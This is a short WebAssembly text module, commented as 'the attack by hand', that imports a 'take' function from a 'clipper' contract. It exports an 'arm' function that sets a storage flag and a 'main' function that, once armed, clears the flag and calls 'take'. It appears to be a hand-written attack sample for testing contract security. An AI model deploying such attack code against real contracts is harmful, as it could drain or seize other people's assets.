;; The attack by hand.
(module
  (type (;0;) (func (param i32 i32)))
  (type (;1;) (func (param i32) (result i32)))
  (type (;2;) (func (param i32 i32) (result i32)))
  (type (;3;) (func))
  (import "storage" "store_i32" (func (;0;) (type 0)))
  (import "storage" "load_i32" (func (;1;) (type 1)))
  (import "contract:clipper" "take" (func (;2;) (type 2)))
  (func (;3;) (type 3)
    i32.const 0
    i32.const 1
    call 0)
  (func (;4;) (type 3)
    block  ;; label = @1
      i32.const 0
      call 1
      i32.eqz
      br_if 0 (;@1;)
      i32.const 0
      i32.const 0
      call 0
      i32.const 1
      i32.const 40
      call 2
      drop
    end)
  (table (;0;) 1 1 funcref)
  (memory (;0;) 1)
  (global (;0;) (mut i32) (i32.const 65536))
  (export "memory" (memory 0))
  (export "arm" (func 3))
  (export "main" (func 4)))
